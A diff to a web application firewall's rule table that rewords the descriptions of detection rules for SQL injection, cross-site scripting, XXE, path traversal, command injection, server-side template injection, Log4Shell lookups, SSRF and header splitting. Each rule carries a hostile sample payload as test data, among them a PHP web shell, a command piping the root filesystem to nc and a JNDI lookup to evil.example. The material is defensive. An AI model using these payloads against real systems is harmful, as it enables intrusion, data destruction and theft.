@@ -91,7 +91,7 @@ export const RULES = [
   {
     id: 'sql-statement',
     severity: 'critical',
-    finds: 'A second statement behind a semicolon, or a complete statement.',
+    finds: 'A second statement after a semicolon, or a complete statement.',
     blocked: prose("x'; DROP TABLE users; --"),
     passes: prose('SELECT * FROM t;'),
     patterns: { ...machine(STATEMENTS), ...written(PROSE_STATEMENTS) },
@@ -111,7 +111,7 @@ export const RULES = [
     id: 'sql-breakout',
     severity: 'critical',
     finds:
-      'SQL that ends the value it was put into and continues the statement: a condition, a clause or an operator behind a quote, a number or a parenthesis.',
+      'SQL that breaks out of a value and continues the statement: a condition, a clause or an operator after a quote, a number or a parenthesis.',
     blocked: strict("x' OR email LIKE '%@%"),
     passes: prose("' OR 1=1"),
     patterns: { ...machine(BREAKOUTS), ...written(PROSE_BREAKOUTS) },
@@ -130,7 +130,7 @@ export const RULES = [
   {
     id: 'script-tag',
     severity: 'critical',
-    finds: 'A script element. In prose, one whose code acts or is loaded from elsewhere.',
+    finds: 'A script element. In prose, only one with active code or an external source.',
     blocked: prose('<script>alert(1)</script>'),
     passes: prose('Training: the <script> element in HTML'),
     patterns: { ...machine(SCRIPT_TAGS), ...written(PROSE_SCRIPT_TAGS) },
@@ -140,7 +140,7 @@ export const RULES = [
   {
     id: 'script-element',
     severity: 'high',
-    finds: 'An element of HTML. In prose, one that runs code by an event handler or its address.',
+    finds: 'An HTML element. In prose, only one that runs code through an event handler or its URL.',
     blocked: prose('<img src=x onerror=alert(1)>'),
     passes: prose('Prices <500 EUR, see <b>Annex A</b> and <anna@example.com>'),
     patterns: { ...machine(ELEMENTS), ...written(PROSE_ELEMENTS) },
@@ -159,7 +159,7 @@ export const RULES = [
   {
     id: 'script-url',
     severity: 'high',
-    finds: 'An address that is a script, such as `javascript:`, `vbscript:` or `data:text/html`.',
+    finds: 'A URL that contains a script, such as `javascript:`, `vbscript:` or `data:text/html`.',
     blocked: prose('javascript:alert(document.cookie)'),
     passes: prose('JavaScript: The Good Parts'),
     patterns: { ...machine(SCRIPT_URLS), ...written(PROSE_URLS) },
@@ -169,7 +169,7 @@ export const RULES = [
   {
     id: 'script-string',
     severity: 'high',
-    finds: 'Calls and properties of scripts that run code or reach for cookies and pages.',
+    finds: 'Script calls and properties that run code or access cookies and pages.',
     blocked: strict("';alert(1)//"),
     passes: prose('alert(ed)'),
     patterns: machine(SCRIPT_STRINGS),
@@ -178,7 +178,7 @@ export const RULES = [
   {
     id: 'xml-entity',
     severity: 'high',
-    finds: 'A document type or an entity of XML. In prose, an entity that reads a file.',
+    finds: 'An XML document type or entity. In prose, only an entity that reads a file.',
     blocked: prose('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
     passes: prose('Entity <Holding> and its system <draft>'),
     patterns: { ...machine(ENTITIES), ...written(PROSE_ENTITIES) },
@@ -188,7 +188,7 @@ export const RULES = [
   {
     id: 'path-traversal',
     severity: 'high',
-    finds: 'Steps out of a folder. In prose, only a complete path to a system file.',
+    finds: 'A path that leaves its folder. In prose, only a complete path to a system file.',
     blocked: strict('.../.../win.ini'),
     passes: prose('See ../../Schedule 2'),
     patterns: {
@@ -203,7 +203,7 @@ export const RULES = [
   {
     id: 'path-system-file',
     severity: 'high',
-    finds: 'The path of a file of the system or of an application.',
+    finds: 'The path of a system or application file.',
     blocked: strict('/etc/./passwd'),
     passes: prose('/etc/passwd'),
     patterns: { strict: SYSTEM_FILES, header: SYSTEM_FILES, key: SYSTEM_FILES },
@@ -213,7 +213,7 @@ export const RULES = [
     id: 'path-hidden',
     severity: 'medium',
     finds:
-      'A request for files and folders that begin with a dot (`/.well-known` excepted), and for private files of other kinds of servers.',
+      'A request for files and folders that begin with a dot (`/.well-known` excepted), and for private files of other server software.',
     blocked: { place: 'path', text: '/app/.env' },
     passes: { place: 'path', text: '/.well-known/security.txt' },
     patterns: { path: HIDDEN_FILES },
@@ -221,7 +221,7 @@ export const RULES = [
   {
     id: 'control-character',
     severity: 'high',
-    finds: 'A zero byte in an encoded text, and in strict places any other control character.',
+    finds: 'A zero byte in encoded text and, in strict fields, any other control character.',
     blocked: { place: 'file-name', text: 'contract.php%00.pdf' },
     passes: { place: 'file-name', text: 'contract 100%.pdf' },
     patterns: { ...machine(CONTROLS), 'file-name': ZERO_BYTES },
@@ -239,7 +239,7 @@ export const RULES = [
     id: 'command-chain',
     severity: 'critical',
     finds:
-      'A shell command that follows another one, behind `;`, `|`, `&` or a line break. In prose, one that reads the passwords of the system.',
+      "A shell command after another command and `;`, `|`, `&` or a line break. In prose, only one that reads the system's passwords.",
     blocked: strict('; tar cf - / | nc host 80'),
     passes: prose('report.pdf; rm -rf dist'),
     patterns: machine(CHAINS),
@@ -249,7 +249,7 @@ export const RULES = [
     id: 'command-code',
     severity: 'critical',
     finds:
-      'Code that a server would run: functions of Bash in variables, server-side includes, PHP, calls of `system` and others. In prose, only web shells and reverse shells.',
+      'Code that a server would run: Bash functions in variables, server-side includes, PHP, calls of `system` and others. In prose, only web shells and reverse shells.',
     blocked: prose("<?php system($_GET['cmd']); ?>"),
     passes: prose('The system (as delivered) may exec changes'),
     patterns: { ...machine(CODE), ...written(PROSE_CODE) },
@@ -259,7 +259,7 @@ export const RULES = [
   {
     id: 'command-object',
     severity: 'high',
-    finds: 'Serialized objects that run code when they are read, and formulas of spreadsheets that start programs.',
+    finds: 'Serialized objects that run code when deserialized, and spreadsheet formulas that start programs.',
     blocked: strict('O:8:"Evil_Obj":1:{s:3:"cmd";s:2:"id";}'),
     passes: prose('= 5 % of the total, type: "A"'),
     patterns: machine(OBJECTS),
@@ -267,7 +267,7 @@ export const RULES = [
   {
     id: 'template-expression',
     severity: 'critical',
-    finds: 'An expression of a template engine.',
+    finds: 'A template engine expression.',
     blocked: strict('{{7*7}}'),
     passes: prose('{{7*7}} template note'),
     patterns: machine(EXPRESSIONS),
@@ -275,7 +275,7 @@ export const RULES = [
   {
     id: 'lookup-jndi',
     severity: 'critical',
-    finds: 'A lookup that a logger would carry out: `${jndi:…}` in any spelling.',
+    finds: 'A lookup that a logger would execute: `${jndi:…}` in any spelling.',
     blocked: prose('${${lower:j}ndi:ldap://evil.example/a}'),
     passes: prose('Total: ${price} per ${unit}'),
     patterns: { ...machine(LOOKUPS), ...written(PROSE_LOOKUPS) },
@@ -285,7 +285,7 @@ export const RULES = [
   {
     id: 'header-split',
     severity: 'high',
-    finds: 'A line break followed by a header of HTTP or of a mail.',
+    finds: 'A line break followed by an HTTP or e-mail header.',
     blocked: strict('contract%0d%0aSet-Cookie: session=1'),
     passes: prose('Dear Anna,\r\nSubject: our offer\r\nLocation: Berlin'),
     patterns: { ...machine(SPLITS), ...written(PROSE_SPLITS) },
@@ -296,7 +296,7 @@ export const RULES = [
     id: 'header-misuse',
     severity: 'medium',
     finds:
-      'Headers in a form that proxies and servers read differently (lengths, encodings, hosts, connections, ranges), and headers that only attackers send to a server such as this.',
+      'Headers in a form that proxies and servers read differently (lengths, encodings, hosts, connections, ranges), and headers that only attackers send to this server.',
     blocked: { place: 'header', text: 'Transfer-Encoding: xchunked' },
     passes: { place: 'header', text: 'Transfer-Encoding: chunked' },
     patterns: {},
@@ -305,7 +305,7 @@ export const RULES = [
     id: 'protocol-abuse',
     severity: 'high',
     finds:
-      'Addresses of protocols that make a server read its own files or call its neighbors, and of the metadata services of clouds.',
+      'URLs with protocols that make a server read local files or call internal services, and URLs of cloud metadata services.',
     blocked: strict('gopher://127.0.0.1:6379/_FLUSHALL'),
     passes: prose('About the file: see https://example.com/a and ftp access'),
     patterns: { ...machine(PROTOCOLS), header: HEADER_PROTOCOLS },
@@ -314,7 +314,7 @@ export const RULES = [
   {
     id: 'ldap-filter',
     severity: 'medium',
-    finds: 'A filter of a directory that is ended, with another one behind it.',
+    finds: 'An LDAP filter that is closed and followed by another one.',
     blocked: strict('*)(uid=*))(|(uid=*'),
     passes: prose('Costs (a)(b) = 5 * (c)'),
     patterns: machine(FILTERS),
@@ -323,7 +323,7 @@ export const RULES = [
   {
     id: 'operator-key',
     severity: 'medium',
-    finds: 'An operator of a document database, or the prototype of an object, as the name of a member or a parameter.',
+    finds: "A document database operator, or an object's prototype, as the name of a member or parameter.",
     blocked: { place: 'key', text: '$ne' },
     passes: { place: 'key', text: 'amount_in_$' },
     patterns: {
@@ -337,7 +337,7 @@ export const RULES = [
   {
     id: 'encoding-double',
     severity: 'medium',
-    finds: 'In strict places, a sign that matters or an attack that was encoded twice.',
+    finds: 'In strict fields, a significant character or an attack that is encoded twice.',
     blocked: strict('%253Cscript%253Ealert(1)%253C/script%253E'),
     passes: prose('Save 20%25 with https://example.com/?a=b%20c'),
     // judge.ts finds it while it decodes the text.
@@ -346,7 +346,7 @@ export const RULES = [
   {
     id: 'encoding-overlong',
     severity: 'high',
-    finds: 'UTF-8 with more bytes than its character takes, which only hides it.',
+    finds: 'UTF-8 that uses more bytes than necessary to hide a character.',
     blocked: strict('..%c0%af..%c0%afetc'),
     passes: strict('Caf%C3%A9'),
     patterns: {},
@@ -354,7 +354,7 @@ export const RULES = [
   {
     id: 'too-complex',
     severity: 'medium',
-    finds: 'More to inspect than any program sends: the text of a request exceeds the inspection limit.',
+    finds: 'The text of a request exceeds the inspection limit.',
     blocked: strict('x '.repeat(60_000)),
     passes: strict('x'.repeat(200)),
     patterns: {},
